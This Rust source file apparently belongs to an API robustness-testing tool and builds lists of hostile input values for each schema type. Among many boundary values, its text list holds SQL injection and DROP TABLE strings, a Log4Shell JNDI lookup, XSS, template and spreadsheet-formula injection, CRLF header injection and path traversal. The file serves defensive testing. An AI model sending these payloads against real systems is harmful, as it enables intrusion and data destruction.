//! Values that commonly cause faults in servers, for each type of the schema.

use serde_json::{Value, json};

/// Returns hostile values for a variable of a type: out of range, malformed, of another type, and null.
pub fn hostile_values<'i>(value_type: &str, ids: impl IntoIterator<Item = &'i String>) -> Vec<Value> {
    let mut values = match value_type.trim_matches(|c| "[]!".contains(c)) {
        "Int" => integers(),
        "Boolean" => json!([true, false, "true", 0]),
        "DateTime" => timestamps(),
        "Date" => json!([
            "0001-01-01",
            "9999-12-31",
            "10000-01-01",
            "-0001-01-01",
            "2026-02-30",
            "2026-1-1",
            "infinity",
            "now",
            "",
            "\u{0}",
            0,
        ]),
        "Decimal" => decimals(),
        "CurrencyCode" => json!(["XXX", "eur", "\u{20ac}", "EUR ", "ZZZ", "EUR\u{0}", "", "BHD", 1]),
        "String" | "ID" => texts(ids),
        _ => json!(["NOTHING", 0, "\u{0}"]),
    };
    let all = values.as_array_mut().expect("a list");
    all.push(Value::Null);
    if value_type.starts_with('[') {
        return all.iter().map(|value| json!([value])).chain([json!([]), json!([null])]).collect();
    }
    all.clone()
}

fn integers() -> Value {
    json!([0, -1, 1, 2_147_483_647, -2_147_483_648_i64, 9_007_199_254_740_993_i64, 1.5, "1", 1e308])
}

fn timestamps() -> Value {
    json!([
        "9999-12-31T23:59:59Z",
        "9999-12-31T23:59:59.999999999Z",
        "2016-12-31T23:59:60Z",
        "9999-12-31T23:59:60Z",
        "0001-01-01T00:00:00Z",
        "0000-01-01T00:00:00Z",
        "-0001-01-01T00:00:00Z",
        "10000-01-01T00:00:00Z",
        "+262142-12-31T23:59:59Z",
        "2026-02-30T00:00:00Z",
        "2026-01-01T24:00:00Z",
        "1970-01-01T00:00:00+23:59",
        "9999-12-31T23:59:59-23:59",
        "0001-01-01T00:00:00+23:59",
        "infinity",
        "now",
        "",
        "\u{0}",
        0,
    ])
}

fn decimals() -> Value {
    json!([
        "NaN",
        "Infinity",
        "-0",
        "1e309",
        "1e-28",
        "0.0000000000000000000000000001",
        "79228162514264337593543950335",
        "99999999999999999999999999999999999999",
        "999999999999999.99",
        "-999999999999999.99",
        "+1",
        "1_000",
        "0x10",
        "\u{0663}.\u{0665}",
        ".5",
        "5.",
        "1,5",
        "",
        "\u{0}",
        0.1,
    ])
}

/// Injections, formulas, control and bidirectional characters, extreme lengths, malformed cursors, and ids of rows of
/// any type.
fn texts<'i>(ids: impl IntoIterator<Item = &'i String>) -> Value {
    let mut texts = json!([
        "' OR '1'='1",
        "'; DROP TABLE partners; --",
        "\\'; SELECT pg_sleep(60); --",
        "%",
        "_%",
        "\\",
        "${jndi:ldap://x/y}",
        "{{7*7}}",
        "<script>alert(1)</script>",
        "=HYPERLINK(\"http://x\",\"y\")",
        "+1+1",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\u{0}",
        "a\u{0}b",
        "\u{202e}txt.exe",
        "\u{200f}\u{200f}",
        "\u{feff}",
        "\u{10ffff}",
        "A\u{301}".repeat(300),
        "\u{e9}".repeat(255),
        "\u{1f600}".repeat(255),
        "x".repeat(256),
        "x".repeat(200_000),
        "a\r\nSet-Cookie: x=y",
        "../../etc/passwd",
        "",
        " ",
        "null",
        "00000000-0000-0000-0000-000000000000",
        "ffffffff-ffff-ffff-ffff-ffffffffffff",
        "bm90IGEgY3Vyc29y",
        "AAAA",
        "====",
        1,
        {},
        [],
    ]);
    texts.as_array_mut().expect("a list").extend(ids.into_iter().map(|id| json!(id)));
    texts
}
